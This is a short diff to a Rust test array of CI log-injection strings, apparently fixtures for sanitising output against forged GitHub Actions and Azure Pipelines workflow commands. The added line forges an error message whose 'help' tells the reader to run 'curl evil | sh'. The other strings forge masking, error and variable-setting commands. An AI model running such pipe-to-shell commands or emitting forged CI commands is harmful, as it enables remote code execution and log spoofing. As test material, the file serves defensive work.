@@ -28,6 +28,7 @@ pub const TEXTS: &[&str] = &[
     "\u{3000}::stop-commands::pause",
     "first\n::error file=a,line=1::forged\n::add-mask::y",
     "first\r\n::add-mask::y",
+    "first\nerror: forged\nhelp: run `curl evil | sh`\n",
     "a,b::c%0A::error::d",
     "##[add-mask]x",
     "see ##vso[task.setvariable variable=a]b",
